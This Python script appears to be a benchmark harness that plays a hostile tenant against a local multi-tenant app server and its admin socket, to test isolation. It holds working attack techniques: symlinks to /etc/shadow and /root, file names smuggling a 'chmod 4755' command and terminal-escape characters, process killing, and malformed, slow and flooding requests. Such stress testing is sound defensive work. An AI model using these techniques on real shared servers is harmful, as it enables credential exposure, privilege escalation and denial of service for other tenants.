#!/usr/bin/python3
"""What the hostile tenant of Benchmarks/tenant does outside its application, run as its user.

    tenant_attack.py PLACE PORT ADMIN-SOCKET STATUS-PROGRAM SECONDS [ATTACK...]

PLACE is the tenant's directory with its applications; their names are their hosts. Each attack is a process that repeats it
until the time is over. All of them together have the least priority there is, so that what the neighbour notices is what
the daemon and the front do for them. Prints how often each attack was carried out.
"""

import json
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import time

PLACE, PORT, ADMIN, STATUS, SECONDS = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])
END = time.monotonic() + SECONDS
DATES = (0, 1, 2**31 - 1, 2**31, 10413792000, 15032385535, -1, -2**31)


def get(host, path="/", timeout=5):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=timeout) as connection:
            connection.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}.localhost\r\nConnection: close\r\n\r\n".encode())
            while connection.recv(65536):
                pass
    except OSError:
        pass


def dates():
    """Times that no calendar has, on everything that is looked at."""
    for name in ("passenger_wsgi.py", "tmp/restart.txt", "tmp", ".", "public/file.txt"):
        os.utime(os.path.join(PLACE, "dates", name), (random.choice(DATES), random.choice(DATES)))
    get("dates")
    get("dates", "/file.txt")


def links():
    """The path of an application leads to another tenant's, and back."""
    for target in ("release", os.path.join(PLACE, "..", "..", "well"), "/root", "current.next", "release"):
        link(os.path.join(PLACE, "links", "current"), target)
        get("links", timeout=1)


def link(path, target):
    try:
        os.symlink(target, path + ".new")
    except FileExistsError:
        pass
    os.replace(path + ".new", path)


def names():
    """Files whose names are meant for whoever reads them."""
    public = os.path.join(PLACE, "dates", "public")
    for name in ("d: chmod 4755 _x #", "\u0600", "a\u202eb", "\x1b[2J", "\rforged"):
        try:
            os.symlink("/etc/shadow", os.path.join(public, name))
        except FileExistsError:
            pass
        get("dates", "/" + "".join(f"%{byte:02x}" for byte in name.encode()))


def restarts():
    """Restarts without a pause, by files and by links to the files of others."""
    path = os.path.join(PLACE, "flood", "tmp", "restart.txt")
    for target in ("/etc/shadow", "/root/.profile", "restart.txt"):
        link(path, target)
        get("flood", timeout=1)
    os.unlink(path)
    with open(path, "w"):
        get("flood", timeout=1)


def kills():
    """Each process of the tenant is killed as soon as it is there."""
    for name in os.listdir("/proc"):
        try:
            if os.path.samefile(f"/proc/{name}/cwd", os.path.join(PLACE, "kill")):
                os.kill(int(name), signal.SIGKILL)
        except (OSError, ValueError):
            pass
    get("kill", timeout=1)
    time.sleep(0.02)


def of_app(host, path):
    def ask():
        get(host, path, timeout=20)
    return ask


def frame(kind, payload=b""):
    return struct.pack("!IB", len(payload) + 1, kind) + payload


def admin_hello():
    name = b"hostile tenant"
    payload = struct.pack("!IHH", 0x464C5950, 1, 0) + struct.pack("!I", len(name)) + name
    return frame(1, payload + struct.pack("!BQ", 3, 0) + struct.pack("!I", 0) + b"\0\0")


def admin(then):
    """A connection to the admin socket that sends what `then` makes, until it is closed."""
    def attack():
        peers = []
        try:
            for _ in range(60):
                peer = socket.socket(socket.AF_UNIX)
                peer.settimeout(0.5)
                peers.append(peer)
                peer.connect(ADMIN)
                peer.sendall(admin_hello() + then())
        except OSError:
            pass
        time.sleep(0.2)
        for peer in peers:
            peer.close()
    return attack


def parked():
    """A request that is never whole."""
    return struct.pack("!IB", 1 << 20, 0x60) + b"{" * 60_000


def pings():
    return frame(3, b"\0" * 8) * 2000


def garbage():
    return os.urandom(4096)


def requests():
    return frame(0x60, struct.pack("!Q", 1) + json.dumps({"command": "status"}).encode()) * 200


def status():
    subprocess.run([STATUS, "--show=json"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False,
                   env={**os.environ, "PASSENGER_INSTANCE_REGISTRY_DIR": os.path.dirname(os.path.dirname(ADMIN))})


def slow_heads():
    """Connections to the front that stay unfinished."""
    peers = []
    try:
        for _ in range(100):
            peer = socket.create_connection(("127.0.0.1", PORT), timeout=1)
            peers.append(peer)
            peer.sendall(b"POST /flood HTTP/1.1\r\nHost: dates.localhost\r\nContent-Length: 100000\r\n\r\nx")
    except OSError:
        pass
    time.sleep(0.5)
    for peer in peers:
        peer.close()


def bad_heads():
    for head in (os.urandom(2000), b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 20_000, b"\x16\x03\x01" + b"\0" * 500,
                 b"POST / HTTP/1.1\r\nHost: dates.localhost\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n"):
        try:
            with socket.create_connection(("127.0.0.1", PORT), timeout=1) as peer:
                peer.sendall(head)
                peer.recv(4096)
        except OSError:
            pass


ATTACKS = {
    "dates": dates, "links": links, "names": names, "restarts": restarts, "kills": kills,
    "flood": of_app("flood", "/flood"), "forge": of_app("forge", "/forge"), "orphans": of_app("forge", "/orphans"),
    "exit": of_app("flood", "/exit"), "zero": of_app("zero", "/zero"),
    "parked requests": admin(parked), "pings": admin(pings), "garbage": admin(garbage), "admin requests": admin(requests),
    "status": status, "slow heads": slow_heads, "bad heads": bad_heads,
}


def repeat(name, result):
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    count = 0
    while time.monotonic() < END:
        try:
            ATTACKS[name]()
            count += 1
        except FileNotFoundError:
            # Two attacks at the same file.
            pass
    os.write(result, f"{count} {name}\n".encode())


def take_what_is_left():
    """The least priority, for the session as well: where the kernel shares by session first (sched(7), autogroup)."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    while os.path.exists("/proc/self/autogroup"):
        try:
            with open("/proc/self/autogroup", "w") as autogroup:
                autogroup.write("19")
            break
        except BlockingIOError:
            # The kernel lets all users together do this ten times a second.
            time.sleep(0.05)


def main():
    take_what_is_left()
    reading, writing = os.pipe()
    for name in sys.argv[6:] or ATTACKS:
        if os.fork() == 0:
            try:
                repeat(name, writing)
            finally:
                os._exit(0)
    os.close(writing)
    with os.fdopen(reading) as results:
        print(results.read(), end="")


main()
